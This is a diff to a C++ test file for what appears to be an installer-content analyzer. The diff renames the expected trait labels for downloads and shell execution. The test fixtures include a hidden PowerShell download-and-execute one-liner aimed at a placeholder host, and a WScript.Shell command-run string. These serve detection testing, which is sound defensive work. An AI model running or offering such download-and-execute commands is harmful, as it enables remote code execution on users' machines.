@@ -60,10 +60,11 @@ TEST_CASE("what an installer's actions run is told") {
   const auto bytes = installer(50, "x", "powershell -w hidden iex (iwr https://far.example/x)");
   const auto document = read_as_kind(bytes, "msi");
   CHECK(has_trait(document, "installer.command"));
-  CHECK(has_trait(document, "script.download"));
+  CHECK(has_trait(document, "installer.download"));
+  CHECK_FALSE(has_trait(document, "script.shell"));  // installers run programs by their nature
   CHECK(links_to(document, "https://far.example/x"));
   const auto script = installer(38, "x", "CreateObject(\"WScript.Shell\").Run \"cmd /c calc\"");
-  CHECK(has_trait(read_as_kind(script, "msi"), "script.shell"));
+  CHECK(has_trait(read_as_kind(script, "msi"), "installer.shell"));
 }
 
 TEST_CASE("every beginning of an installer is read as far as it goes") {
